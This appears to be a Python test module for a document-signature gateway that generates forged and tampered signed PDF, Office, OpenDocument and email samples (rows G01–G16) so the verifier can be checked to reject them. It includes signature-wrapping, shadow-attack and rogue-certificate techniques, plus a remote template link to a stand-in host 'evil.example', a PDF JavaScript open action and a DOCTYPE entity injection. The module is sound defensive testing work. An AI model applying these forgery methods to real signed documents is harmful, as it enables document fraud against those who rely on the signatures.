"""The attacks of the catalogue (G01 to G16) as files, each with the honest file that it was made from.

None of these files may be called valid. They are made on the spot with the test PKI; what needs an eye on one detail has a test of
its own beside the container it is about.
"""

from __future__ import annotations

import base64
import io
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import timedelta

import pikepdf
from cryptography import x509
from cryptography.x509.oid import ExtendedKeyUsageOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import MDPPerm

from gateway.demo.pki import Identity, Wish, distinguished_name, issue, new_key
from gateway.demo.sign import PdfSigning, sign_pdf
from gateway.model import Indication, Signature
from gateway.signatures import verify
from gateway.signatures.revocation import load_list
from gateway.signatures.trust import TrustStore
from tests.pki import cms, xml
from tests.pki.tree import NOW, letter_docx, letter_pdf, store, tree
from tests.signatures.corpus import TYPES

DAY = timedelta(days=1)


@dataclass(frozen=True)
class Sample:
    """One file."""

    row: str
    """Row of the catalogue; empty for an honest file."""
    name: str
    data: bytes
    revoked: tuple[x509.Certificate, ...] = ()
    """Certificates that stand on the authority's list."""


def trust_for(sample: Sample) -> TrustStore:
    """The test store, whose authority has listed the certificates that the sample wants revoked."""
    if not sample.revoked:
        return store()
    issuer = tree().g2_sub
    gone = [(Identity(one, tree().person_key), NOW, None) for one in sample.revoked]
    one = load_list(tree().crl(issuer, *gone), embedded=False)
    return TrustStore.of(store().anchors, lists=[*(held for held in store().lists if held.issuer != one.issuer), one])


def reports(sample: Sample) -> tuple[Signature, ...]:
    """What the gateway says of the signatures of a sample."""
    kind = TYPES["." + sample.name.rpartition(".")[2]]
    return verify(sample.data, part="1", filename=sample.name, detected_type=kind, trust=trust_for(sample), now=NOW)


def is_valid(found: Iterable[Signature]) -> bool:
    """The bottom line: signed, and every signature passed."""
    indications = {one.indication for one in found}
    return indications == {Indication.TOTAL_PASSED}


def honest() -> Iterator[Sample]:
    """Files that must be called valid."""
    person, seal = tree().g2_person, tree().g2_seal
    yield Sample("", "person.pdf", sign_pdf(letter_pdf(), person))
    twice = sign_pdf(sign_pdf(letter_pdf(), person), seal, PdfSigning(field="Signature2", box=(10, 10, 40, 40)))
    yield Sample("", "person-and-seal.pdf", twice)
    yield Sample("", "person.docx", xml.sign_ooxml(letter_docx(), person))
    yield Sample("", "seal.odt", xml.sign_odf(xml.odt(), seal))
    yield Sample("", "both.odt", xml.sign_odf(xml.sign_odf(xml.odt(), person), seal))


def attacks() -> Iterator[Sample]:
    """Every generated attack."""
    for make in (_ranges, _updates, _shadow, _certified, _tails, _strangers, _purposes, _times, _algorithms):
        yield from make()
    yield from _office()
    yield from _open_document()


def _update(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _with_range(data: bytes, change: Callable[[list[int]], list[int]]) -> bytes:
    found = re.search(rb"/ByteRange ?\[([^\]]*)\]", data)
    assert found
    text = b" ".join(str(one).encode() for one in change([int(one) for one in found.group(1).split()]))
    return data[: found.start(1)] + text.ljust(len(found.group(1))) + data[found.end(1) :]


def _ranges() -> Iterator[Sample]:
    """G01 universal forgery, G02 wrapping."""
    once = sign_pdf(letter_pdf(), tree().g2_person)
    yield Sample("G01", "range-zero.pdf", _with_range(once, lambda n: [0, 0, 0, 0]))
    yield Sample("G01", "range-empty.pdf", _with_range(once, lambda n: []))
    yield Sample("G01", "range-negative.pdf", _with_range(once, lambda n: [0, n[1], n[2], -1]))
    yield Sample("G01", "range-removed.pdf", once.replace(b"/ByteRange", b"/ByteRangX"))
    held = re.search(rb"/Contents ?<([0-9a-fA-F]+)>", once)
    assert held
    zeroed = once[: held.start(1)] + b"0" * (held.end(1) - held.start(1)) + once[held.end(1) :]
    yield Sample("G01", "contents-zero.pdf", zeroed)
    emptied = once[: held.start()] + b"/Contents <>".ljust(held.end() - held.start()) + once[held.end() :]
    yield Sample("G01", "contents-empty.pdf", emptied)
    injected = b"\n99 0 obj<</Type/Catalog>>endobj\n".ljust(400)
    numbers = [int(one) for one in re.search(rb"/ByteRange ?\[([^\]]*)\]", once).group(1).split()]  # type: ignore[union-attr]
    moved = once[: numbers[2]] + injected + once[numbers[2] :]
    yield Sample("G02", "range-moved.pdf", _with_range(moved, lambda n: [0, n[1], n[2] + 400, n[3]]))
    yield Sample("G02", "gap-wide.pdf", _with_range(once, lambda n: [0, n[1] - 50, n[2], n[3]]))


def _page(writer: IncrementalPdfFileWriter) -> None:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    stream = writer.add_object(generic.StreamObject(stream_data=b"q 1 0 0 rg 0 0 300 300 re f Q"))
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), stream])
    writer.update_container(page)


def _annotation(writer: IncrementalPdfFileWriter) -> None:
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    note = generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Annot"), generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
        generic.pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 300, 300)]),
        generic.pdf_name("/Contents"): generic.pdf_string("số tiền khác"),
    })  # fmt: skip
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", ()), writer.add_object(note)])
    writer.update_container(page)


def _script(writer: IncrementalPdfFileWriter) -> None:
    action = {"/S": generic.pdf_name("/JavaScript"), "/JS": generic.pdf_string("app.alert(1)")}
    writer.root["/OpenAction"] = generic.DictionaryObject({generic.pdf_name(k): v for k, v in action.items()})
    writer.update_root()


def _updates() -> Iterator[Sample]:
    """G03 incremental saving, also between two signatures."""
    once = sign_pdf(letter_pdf(), tree().g2_person)
    for name, change in (("page", _page), ("annotation", _annotation), ("script", _script)):
        yield Sample("G03", f"update-{name}.pdf", _update(once, change))
    second = PdfSigning(field="Signature2", box=(10, 10, 40, 40))
    yield Sample("G03", "page-between.pdf", sign_pdf(_update(once, _page), tree().g2_seal, second))


def _shadow() -> Iterator[Sample]:
    """G04: an overlay that stood before signing is taken away by a later revision; a font's widths change the words."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(letter_pdf())) as pdf:
        page = pdf.pages[0]
        cover = pdf.make_stream(b"q 1 1 1 rg 0 0 600 900 re f Q")
        page.Contents = pikepdf.Array([page.Contents, cover])
        pdf.save(out)
    signed = sign_pdf(out.getvalue(), tree().g2_person)

    def uncover(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        stream = page["/Contents"][-1]
        stream._data = b" "
        stream._encoded_data = None
        writer.mark_update(page["/Contents"].raw_get(-1))

    yield Sample("G04", "shadow-hide.pdf", _update(signed, uncover))

    def refer(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        page["/Contents"] = page["/Contents"].raw_get(0)
        writer.update_container(page)

    yield Sample("G04", "shadow-replace.pdf", _update(signed, refer))


def _certified() -> Iterator[Sample]:
    """G05: an annotation on a certified document; a stranger's signature beside a good one."""
    certified = sign_pdf(letter_pdf(), tree().g2_person, PdfSigning(certify=MDPPerm.ANNOTATE))
    yield Sample("G05", "certified-annotation.pdf", _update(certified, _annotation))
    second = PdfSigning(field="Signature2", box=(10, 10, 40, 40))
    once = sign_pdf(letter_pdf(), tree().g2_person)
    yield Sample("G05", "good-and-stranger.pdf", sign_pdf(once, tree().person(tree().rogue_root), second))


def _tails() -> Iterator[Sample]:
    """G06 octets after the signed revision."""
    once = sign_pdf(letter_pdf(), tree().g2_person)
    yield Sample("G06", "tail-junk.pdf", once + b"%junk")
    yield Sample("G06", "tail-zip.pdf", once + b"\nPK\x03\x04" + b"\0" * 30)
    start = re.findall(rb"startxref\s+(\d+)", once)[-1]
    yield Sample("G06", "tail-object.pdf", once + b"\n9 0 obj<</A 1>>endobj\nstartxref\n" + start + b"\n%%EOF\n")


def _strangers() -> Iterator[Sample]:
    """G07 trust."""
    chain = PdfSigning(with_chain=True)
    yield Sample("G07", "root-of-same-name.pdf", sign_pdf(letter_pdf(), tree().person(tree().rogue_root), chain))
    alone = issue(distinguished_name(("CN", "Tự ký")), tree().person_key, None, Wish(), now=NOW)
    yield Sample("G07", "self-signed.pdf", sign_pdf(letter_pdf(), alone))
    child = tree().person(tree().g2_person, key=tree().seal_key)
    yield Sample("G07", "leaf-as-authority.pdf", sign_pdf(letter_pdf(), child, chain))


def _purposes() -> Iterator[Sample]:
    """G08 wrong purpose."""
    for name, purposes, usage in (
        ("server", (ExtendedKeyUsageOID.SERVER_AUTH,), "digital_signature"),
        ("code", (ExtendedKeyUsageOID.CODE_SIGNING,), "digital_signature"),
        ("encipherment", None, "key_encipherment"),
    ):
        who = tree().person(tree().g2_sub, purposes=purposes, key_usage=frozenset({usage}))
        yield Sample("G08", f"purpose-{name}.pdf", sign_pdf(letter_pdf(), who))


def _times() -> Iterator[Sample]:
    """G09 expired, not yet valid, carried by a false timestamp; G10 revoked."""
    for name, begins, ends in (("expired", -800, -1), ("future", 1, 400)):
        who = tree().person(tree().g2_sub, begins=NOW + begins * DAY, ends=NOW + ends * DAY)
        yield Sample("G09", f"{name}.pdf", sign_pdf(letter_pdf(), who))
    old = tree().person(tree().g2_sub, begins=NOW - 800 * DAY, ends=NOW - 100 * DAY)
    fake = tree().leaf(tree().rogue_root, ("CN", "TSA giả"), purposes=(ExtendedKeyUsageOID.TIME_STAMPING,))
    for name, tsa in (("false-timestamp", fake), ("timestamp-by-seal", tree().g2_seal)):
        how = PdfSigning(tsa=tsa, tsa_time=NOW - 200 * DAY)
        yield Sample("G09", f"{name}.pdf", sign_pdf(letter_pdf(), old, how))
    gone = tree().person(tree().g2_sub)
    yield Sample("G10", "revoked.pdf", sign_pdf(letter_pdf(), gone), (gone.certificate,))
    yield Sample("G10", "revoked.odt", xml.sign_odf(xml.odt(), gone), (gone.certificate,))


def _algorithms() -> Iterator[Sample]:
    """G11 weak algorithms and keys."""
    yield Sample("G11", "sha1.pdf", sign_pdf(letter_pdf(), tree().g2_person, PdfSigning(digest="sha1")))
    short = tree().person(tree().g2_sub, key=new_key(1024))
    yield Sample("G11", "rsa-1024.pdf", sign_pdf(letter_pdf(), short))


def _edit(data: bytes, **changes: Callable[[bytes], bytes] | bytes) -> bytes:
    files = xml.members(data)
    for name, change in changes.items():
        files[name] = change(files[name]) if callable(change) else change
    return xml.pack(files)


def _office() -> Iterator[Sample]:
    """G13 attacks on Office packages, G14 on XML signatures."""
    person, part, sig = tree().g2_person, "word/document.xml", "_xmlsignatures/sig1.xml"
    good = xml.sign_ooxml(letter_docx(), person)

    def sample(row: str, name: str, changes: dict[str, Callable[[bytes], bytes] | bytes]) -> Sample:
        return Sample(row, name, _edit(good, **changes))

    yield sample("G13", "edited.docx", {part: lambda data: data.replace(b"1215", b"1216")})
    yield Sample("G13", "no-package-object.docx", xml.sign_ooxml(letter_docx(), person, objects=lambda _: [("idOther", "x")]))  # fmt: skip
    yield Sample("G13", "partial-manifest.docx", xml.sign_ooxml(letter_docx(), person, only={"_rels/.rels"}))
    outside = b'<Object><Manifest xmlns="' + xml.DS.encode() + b'"/></Object></Signature>'
    yield sample("G13", "manifest-outside.docx", {sig: lambda data: data.replace(b"</Signature>", outside)})
    template = (
        f'<Relationships xmlns="{xml.PACKAGE}/relationships"><Relationship Id="r" Type="{xml.REL_TYPES}/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    yield sample("G13", "template-injected.docx", {"word/_rels/document.xml.rels": template.encode()})
    second = f'<Relationship Id="rId0" Type="{xml.REL_TYPES}/officeDocument" Target="word/evil.xml"/></Relationships>'
    yield sample("G13", "second-main-part.docx", {
        "_rels/.rels": lambda data: data.replace(b"</Relationships>", second.encode()), "word/evil.xml": b"<w:document/>",
    })  # fmt: skip
    kind = b"wordprocessingml.document.main", b"wordprocessingml.template.main"
    yield sample("G13", "content-type.docx", {"[Content_Types].xml": lambda data: data.replace(*kind)})
    twin = b'<Object Id="idPackageObject"><x xmlns="urn:x"/></Object></Signature>'
    yield sample("G14", "duplicate-id.docx", {sig: lambda data: data.replace(b"</Signature>", twin)})
    hmac = b"http://www.w3.org/2000/09/xmldsig#hmac-sha1"
    yield sample("G14", "hmac.docx", {sig: lambda data: data.replace(xml.RSA_SHA256.encode(), hmac)})
    yield sample("G14", "doctype.docx", {sig: lambda data: b"<!DOCTYPE a [<!ENTITY b 'c'>]>" + data})
    for name, algorithm in (
        ("xslt", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
        ("xpath", "http://www.w3.org/TR/1999/REC-xpath-19991116"),
    ):
        inner = xml.reference(f"/{part}", xml.digest(b""), transforms=f'<Transform Algorithm="{algorithm}"/>')
        objects = [("idPackageObject", f"<Manifest>{inner}</Manifest>")]
        yield Sample("G14", f"{name}.docx", xml.sign_ooxml(letter_docx(), person, objects=lambda _, o=objects: o))


def _open_document() -> Iterator[Sample]:
    """G15 attacks on OpenDocument."""
    person, sig = tree().g2_person, "META-INF/documentsignatures.xml"
    good = xml.sign_odf(xml.odt(), person)
    yield Sample("G15", "edited.odt", _edit(good, **{"content.xml": lambda data: data.replace("Biên".encode(), b"B")}))
    yield Sample("G15", "added-part.odt", _edit(good, **{"styles.xml": b"<a/>"}))
    stranger = tree().person(tree().rogue_root, key=tree().seal_key)
    trusted = base64.b64encode(person.certificate_der)
    first = b"<X509Data><X509Certificate>" + trusted + b"</X509Certificate></X509Data>"
    doubled = {sig: lambda data: data.replace(b"<KeyInfo>", b"<KeyInfo>" + first)}
    yield Sample("G15", "double-certificate.odt", _edit(xml.sign_odf(xml.odt(), stranger), **doubled))
    yield Sample("G15", "stranger.odt", xml.sign_odf(xml.odt(), tree().person(tree().rogue_root)))
    unknown = {sig: lambda data: data.replace(xml.RSA_SHA256.encode(), b"urn:unknown")}
    yield Sample("G15", "unknown-algorithm.odt", _edit(good, **unknown))
    with_macro = xml.odt(more={"Basic/script-lc.xml": b"<a/>"})
    yield Sample("G15", "macro-as-document.odt", xml.sign_odf(with_macro, person, only={"Basic/script-lc.xml"}))


def mails() -> Iterator[tuple[str, bytes, bool]]:
    """G16: signed mails by name, and whether they are honest."""
    whole = cms.multipart_signed(cms.INNER, tree().g2_person)
    yield "clear.eml", whole, True
    yield "opaque.eml", cms.pkcs7_mime(cms.INNER, tree().g2_person), True
    yield "changed.eml", whole.replace(b"anh", b"ong"), False
    extra = "--sig\r\nContent-Type: text/plain\r\n\r\nkhong ky\r\n"
    yield "third-part.eml", cms.multipart_signed(cms.INNER, tree().g2_person, more=extra), False
    other = cms.multipart_signed(cms.INNER, tree().g2_person, sign=lambda _, who: cms.cms(b"khac", who))
    yield "other-signature.eml", other, False
    yield "stranger.eml", cms.multipart_signed(cms.INNER, tree().person(tree().rogue_root)), False
